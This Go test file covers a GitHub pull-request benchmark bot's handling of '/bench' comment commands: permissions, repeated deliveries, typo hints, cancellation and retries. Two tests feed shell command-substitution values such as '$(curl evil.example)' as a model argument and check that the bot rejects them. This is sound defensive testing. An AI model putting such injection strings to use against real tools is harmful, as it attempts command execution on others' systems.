package service_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ghx-dev/bench-action/internal/app/runs"
	"github.com/ghx-dev/bench-action/internal/app/service"
	"github.com/ghx-dev/bench-action/internal/bench"
	"github.com/ghx-dev/bench-action/internal/sandbox/model"
	"github.com/ghx-dev/bench-action/internal/sandbox/sandboxtest"
)

// manual has nothing start by itself.
const manual = config + "triggers: {pull_request: []}\n"

func TestACommandIsCarriedOutAndAnsweredOnce(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	id := r.comment("writer", "/bench run default --repetitions 2")
	r.wait(1)
	for _, part := range []string{"👍 `/bench run`", "| Scenarios | set `default` |", "| Repetitions | 2 |", "| Cost | nothing: no model is involved |"} {
		assert.Contains(t, r.answer(), part)
	}
	run := r.run("run-1")
	assert.Equal(t, []any{"default", bench.Repetitions{First: 2, Most: 2}, "/bench run by writer"}, []any{run.Request.Plan.Set, run.Request.Plan.Repetitions, run.Request.Asked})

	before := len(r.comments())
	last := r.lastComment()
	r.again(id, "issue_comment", last)
	assert.Len(t, r.comments(), before, "a delivery that comes again is not answered again")
	assert.Len(t, r.executor.works(), 1)
	assert.Equal(t, []string{"+1"}, r.reactions())
}

// lastComment is the payload of the last command, once more.
func (r *rig) lastComment() map[string]any {
	r.Helper()
	var id int64
	r.Look(func(s *model.State) {
		for c := range s.Comments.All() {
			if strings.HasPrefix(c.Body, "/bench") {
				id = c.ID
			}
		}
	})
	return map[string]any{
		"action": "created", "issue": r.get(fmt.Sprintf("%s/issues/%d", sandboxtest.Path, r.number)),
		"comment": r.get(fmt.Sprintf("%s/issues/comments/%d", sandboxtest.Path, id)),
	}
}

// reactions returns those to commands.
func (r *rig) reactions() []string {
	var all []string
	r.Look(func(s *model.State) {
		for reaction := range s.Reactions.All() {
			all = append(all, reaction.Content)
		}
	})
	return all
}

func TestAStrangersCommandIsRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	for _, login := range []string{"stranger", "reader", "triager"} {
		r.comment(login, "/bench run")
		assert.Contains(t, r.answer(), "it needs write permission", login)
	}
	said := len(r.comments())
	r.comment("stranger", "/bench retry")
	assert.Contains(t, r.answer(), "`/bench retry`: it needs write permission")
	r.comment("stranger", "/bench run --model '$(curl evil.example)'")
	assert.Contains(t, r.answer(), "no quotation marks", "a slip is told apart")
	for range 20 {
		r.comment("stranger", "/bench help")
	}
	assert.Contains(t, r.answer(), "| `/bench status` |")
	assert.Len(t, r.comments(), said, "each has one comment, which is kept up to date")
	assert.Equal(t, []string{"-1", "-1", "-1", "-1", "confused"}, r.reactions()[:5])
	assert.Empty(t, r.executor.works())
}

func TestAStrangerMayAsk(t *testing.T) {
	t.Parallel()
	r := newRig(t, config)
	r.pullEvent("opened")
	r.wait(1)
	for _, c := range []struct{ ask, answer string }{
		{"help", "/bench run"}, {"status", "**bench**"}, {"explain pr-merge-001", "pr-merge-001"},
	} {
		r.comment("stranger", "/bench "+c.ask)
		assert.Contains(t, r.answer(), c.answer)
		assert.NotContains(t, r.answer(), "it needs write permission", c.ask)
	}
	assert.Len(t, r.executor.works(), 1)
}

func TestTheSettingsSayWhoMayCommand(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual+"commands: {permission: admin}\n")
	r.comment("writer", "/bench run")
	assert.Contains(t, r.answer(), "it needs admin permission")
	r.comment("owner", "/bench run")
	r.wait(1)
	assert.Len(t, r.executor.works(), 1)
}

func TestMistakesAreAnsweredToThoseWhoMayCommand(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	for body, says := range map[string]string{
		"/bench rnu":                                "did you mean `run`?",
		"/bench run isues":                          "There is no scenario set `isues`",
		"/bench run --model '$(curl evil.io)'":      "no quotation marks",
		"/bench run --modes ghx,mcp":                "The modes lack `agent_direct`",
		"/bench explain pr-merge-009":               "did you mean `pr-merge-001`?",
		"/bench cancel":                             "there is nothing to do",
		"/bench explain pr-merge-001":               "there is nothing to do",
		"/bench status":                             "There is no run of **bench** on this pull request yet",
		"/bench approve " + strings.Repeat("0", 40): "on a branch of this repository",
		"/bench help":                               "/bench approve",
	} {
		r.comment("writer", body)
		assert.Contains(t, r.answer(), says, body)
	}
	assert.Empty(t, r.executor.works())
}

func TestTalkIsNotAnswered(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	for _, body := range []string{"What does /bench do?", "```\n/bench run\n```", "> /bench run", strings.Repeat("x", 60_000)} {
		r.comment("writer", body)
	}
	assert.Empty(t, r.comments())
	assert.Empty(t, r.reactions())
}

func TestACommandOfBeforeAPushIsVoid(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	r.comment("writer", "/bench help")
	command := r.lastComment()
	command["comment"].(map[string]any)["body"] = "/bench run"
	comment := command["comment"].(map[string]any)
	comment["created_at"], comment["updated_at"] = "2020-01-01T00:00:00Z", "2020-01-01T00:00:00Z"
	r.push("src/later.ts")
	r.pullEvent("synchronize")
	r.deliver("issue_comment", command)
	assert.Contains(t, r.answer(), "there was a push after your comment")
	assert.Empty(t, r.executor.works())
}

func TestARunIsCancelled(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	begun := make(chan struct{}, 1)
	r.executor.set(func(ctx context.Context, _ service.Work) (runs.Outcome, error) {
		begun <- struct{}{}
		<-ctx.Done()
		return runs.Outcome{}, ctx.Err()
	})
	r.comment("writer", "/bench")
	<-begun
	r.comment("writer", "/bench status")
	assert.NotEmpty(t, r.answer())
	r.comment("writer", "/bench cancel")
	r.wait(1)
	assert.Contains(t, r.answer(), "👍 `/bench cancel`")
	assert.Equal(t, "cancelled", string(r.check().Conclusion))
	o, err := r.table.Outcome(t.Context(), "run-1")
	require.NoError(t, err)
	assert.Equal(t, "It was cancelled by writer.", o.Reason)
}

func TestWhatIsCompleteIsNotRetried(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	r.executor.set(func(ctx context.Context, w service.Work) (runs.Outcome, error) {
		for i := range w.Run.Cells {
			cell := w.Run.Request.Plan.Scenarios[0]
			w.Keep(cellOf(cell, i+1), []byte(fmt.Sprintf(`{"scenario_id":%q,"mode":"ghx","iteration":%d}`, cell, i+1)))
		}
		return passes(ctx, w)
	})
	r.comment("writer", "/bench")
	r.wait(1)
	r.comment("writer", "/bench retry")
	assert.Contains(t, r.answer(), "there is nothing to do")
	r.comment("writer", "/bench explain pr-merge-001")
	assert.Contains(t, r.answer(), "pr-merge-001")
	assert.Len(t, r.executor.works(), 1)
}
